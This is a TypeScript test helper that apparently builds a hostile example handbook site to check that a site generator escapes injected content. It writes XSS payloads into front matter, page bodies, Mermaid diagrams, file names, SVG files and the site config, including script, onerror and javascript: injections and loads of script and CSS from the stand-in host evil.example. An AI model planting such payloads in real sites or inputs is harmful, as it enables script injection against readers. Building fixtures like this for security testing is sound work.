import { cpSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { handbookSchema } from '../schemas/handbook.ts';
import { seatOf } from '../src/core/address.ts';
import { type FieldPath, parseYaml, splitFrontMatter } from '../src/core/front-matter.ts';
import { shapeOf } from '../src/core/shape.ts';
import { mdx } from './small-handbook.ts';
import { xssPayloads } from './xss-payloads.ts';

type Data = Record<string, unknown>;

let next = 0;
/** The payloads, one after the other. */
const payload = (): string => xssPayloads[next++ % xssPayloads.length]!;

/** Values that keep the handbook together: what they name has to be there, or pages would show nothing of it. */
const holdsTogether =
	/^(?:services|service|dependsOn|release|releases|runbooks|rollbackPlans?|environments?|promotesTo|flags?|teams?|owner|migrations?|advisories|incident|supersedes|causedBy|introducedIn|removedIn|deployOrder|approver|manager|to|by|id|folder|digest|locale|locales|version|from|name|primary|backup|commander|changed)$/;

/** Puts a payload into every text that the schema lets anybody write. One in five of those that hold the handbook together, too. */
function poisoned(schema: Parameters<typeof shapeOf>[0], data: Data): Data {
	const copy = structuredClone(data);
	const fits = (): boolean => shapeOf(schema, copy).issues.length === 0;
	if (!fits()) return copy;
	const enter = (holder: Data | unknown[], path: FieldPath): void => {
		for (const [key, value] of Object.entries(holder)) {
			if (value !== null && typeof value === 'object') enter(value as Data, [...path, key]);
			if (typeof value !== 'string') continue;
			const name = [...path, key].findLast((part) => !/^\d+$/.test(String(part)));
			if (holdsTogether.test(String(name)) && path.length < 2 && next++ % 5 > 0) continue;
			// other controls are refused with the whole front matter
			const text = payload().replaceAll('\u0001', '');
			const set = (written: string): boolean => {
				(holder as Data)[key] = written;
				return fits();
			};
			// before the words, or at the end of an address, where blanks and quotes cannot stand
			if (!set(`${text} ${value}`) && !set(`${value}${text.replace(/[\s<>"']/g, '')}`)) (holder as Data)[key] = value;
		}
	};
	enter(copy, []);
	return copy;
}

/** Text in a body that stays text. */
const escaped = (text: string): string => text.replace(/[\\`*_{}[\]<>()#+.!|:&~-]/g, '\\$&').replace(/\s+/g, ' ');
const inQuotes = (text: string): string =>
	text.replace(/[&"]/g, (char) => `&#${char.charCodeAt(0)};`).replace(/\s+/g, ' ');
const inAddress = (text: string): string => encodeURI(text).replace(/[()]/g, (char) => `\\${char}`);

/** Every place of a body that takes a text or an address. */
function hostileBody(): string {
	const fence = (): string => payload().replace(/[`\n\r]/g, ' ');
	return `
## ${escaped(payload())}

${escaped(payload())} *${escaped(payload())}* \`${fence()}\` [${escaped(payload())}](${inAddress(payload())} "${inQuotes(payload()).replaceAll('\\', '')}")
[${escaped(payload())}](<${payload().replace(/[<>\n\r\\]/g, '')}>) ![${escaped(payload())}](${inAddress(payload())})
![${escaped(payload())}](../media/picture.svg "${inQuotes(payload()).replaceAll('\\', '')}") [x](#${encodeURIComponent(payload())}) [ref][r${next}]

[r${next}]: <${payload().replace(/[<>\n\r\\]/g, '')}> "${inQuotes(payload()).replaceAll('\\', '')}"

\`\`\`${fence().replace(/\s/g, '')} ${fence()}
${payload()}
\`\`\`

| ${escaped(payload())} | b |
|---|---|
| ${escaped(payload())} | ${escaped(payload())} |

<Callout type="warning" title="${inQuotes(payload())}">

${escaped(payload())}

</Callout>

<Details summary="${inQuotes(payload())}">

${escaped(payload())}

</Details>

<Tabs>
<Tab title="${inQuotes(payload())}">

${escaped(payload())}

</Tab>
</Tabs>

<Step title="${inQuotes(payload())}" owner="${inQuotes(payload())}" service="${inQuotes(payload())}" undoes="${inQuotes(payload())}" takes="PT5M">

${escaped(payload())}

</Step>

<Input name="${inQuotes(payload())}" label="${inQuotes(payload())}" default="${inQuotes(payload())}" />

<Contact who="checkout/on-call" via="${inQuotes(payload())}" /> <FlagState flag="${inQuotes(payload())}" />
`;
}

const label = (text: string): string => text.replace(/["\n\r;]/g, ' ');

const diagrams = (): string[] => [
	`flowchart TD\n  accTitle: ${label(payload())}\n  a["${label(payload())}"] -->|"${label(payload())}"| b["<img src=x onerror=alert(1)>"]\n  click a "javascript:alert(1)"`,
	`%%{init: {"themeCSS": "@import url(https://evil.example/x.css)", "securityLevel": "loose"}}%%\nflowchart LR\n  a["${label(payload())}"]`,
	`flowchart LR\n  a["\`**${label(payload()).replaceAll('`', '')}**\`"] --> b\n  click a call alert(1)`,
	`flowchart LR\n  a["<script>alert(1)</script>"]\n  style a fill:url(https://evil.example/x)`,
	`sequenceDiagram\n  participant A as ${label(payload())}\n  A->>A: ${label(payload())}\n  link A: x @ javascript:alert(1)`,
	`stateDiagram-v2\n  s1 : ${label(payload())}\n  s1 --> s2 : ${label(payload())}`,
	`gantt\n  title ${label(payload())}\n  dateFormat YYYY-MM-DD\n  section ${label(payload()).replace(/[:#]/g, ' ')}\n  ${label(payload()).replace(/[:#]/g, ' ')} :a1, 2026-11-01, 3d\n  click a1 href "javascript:alert(1)"`,
	`pie title ${label(payload())}\n  "${label(payload())}" : 3`,
	`timeline\n  title ${label(payload())}\n  2026 : ${label(payload())}`,
];

const svgNames = ['picture.svg', '"><img src=x onerror=alert(1)>.svg', "'-alert(1)-'.svg", 'javascript:alert(1).svg'];
const hostileSvg = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="alert(1)">
<script>alert(2)</script><script href="https://evil.example/3.js"/><script xlink:href="data:text/javascript,alert(4)"/>
<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(5)"/><script>alert(6)</script></body></foreignObject>
<animate onbegin="alert(7)" attributeName="x" dur="1s"/><image href="https://evil.example/8.png" width="4" height="4" onerror="alert(8)"/>
<use href="data:image/svg+xml,&lt;svg id='x' onload='alert(9)'/&gt;#x"/><a href="javascript:alert(10)"><rect width="40" height="40"/></a>
<style>@import "https://evil.example/11.css"; rect { fill: url(https://evil.example/12) }</style>
<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.alert(13)"/></svg>`;

/**
 * The example handbook, as somebody would write it who wants readers of it to run something: payloads in every field,
 * body, diagram, name of a file and in `handbook.yaml`. Everything is legal enough to be published.
 */
export function writeHostileSite(content: string, target: string): void {
	cpSync(content, target, { recursive: true });
	const files = readdirSync(target, { recursive: true, encoding: 'utf8' }).filter((file) => /\.mdx$/.test(file));
	for (const file of files) {
		const seat = seatOf(file.replace(/^editions\/[^/]+\//, ''));
		const split = splitFrontMatter(readFileSync(join(target, file), 'utf8'));
		if (!seat || 'fault' in split) throw new Error(`${file} is no document of the example`);
		const data = poisoned(seat.kind.schema, split.frontMatter.data as Data);
		data.aliases = [payload(), `/old-${next}/`, `/a/${payload()}/`];
		writeFileSync(join(target, file), mdx(data, `${split.body}\n${next % 2 ? hostileBody() : ''}`));
	}
	const write = (path: string, text: string): void => {
		mkdirSync(dirname(join(target, path)), { recursive: true });
		writeFileSync(join(target, path), text);
	};
	for (const [index, text] of xssPayloads.entries()) {
		// as it is: some are components that nobody knows, some cannot be parsed, and the page shows the source
		write(
			`guides/raw-${index}.mdx`,
			mdx({ title: text, tags: [text], summary: text, nonsense: text }, `${text}\n\n${text}`),
		);
	}
	for (const [index, source] of diagrams().entries()) {
		write(`guides/diagram-${index}.mdx`, mdx({ title: `Diagram ${payload()}` }, `\`\`\`mermaid\n${source}\n\`\`\`\n`));
	}
	for (const name of [
		'<img src=x onerror=alert(1)>',
		'"onload="alert(1)',
		"a'-alert(1)-'",
		// biome-ignore lint/suspicious/noTemplateCurlyInString: it is the name of a file
		'${alert(1)}',
		'x;alert(1)',
	])
		write(`guides/${name}.mdx`, mdx({ title: 'A name' }, 'Text.'));
	for (const name of svgNames) write(`media/${name}`, hostileSvg);
	write('media/page.png', '<script>alert(1)</script>');
	write(
		'guides/pictures.mdx',
		mdx(
			{ title: 'Pictures' },
			[...svgNames, 'page.png'].map((name) => `![x](../media/${encodeURIComponent(name)})`).join('\n\n'),
		),
	);
	const config = parseYaml(readFileSync(join(target, 'handbook.yaml'), 'utf8'));
	if ('fault' in config) throw new Error(config.fault.message);
	const data = config.frontMatter.data as Data;
	const hostile = poisoned(handbookSchema, { ...data, name: 'Parcelway' });
	hostile.name = '</title><script>alert(1)</script>"\'><img src=x onerror=alert(1)>';
	hostile.description = '</script><script>alert(1)</script> --> "><svg onload=alert(1)>';
	hostile.url = data.url;
	hostile.editions = data.editions;
	// diagrams that cannot be drawn are published as their source
	hostile.severities = { ...(hostile.severities as Data), 'diagram-syntax': 'warning' };
	writeFileSync(join(target, 'handbook.yaml'), JSON.stringify(hostile));
}
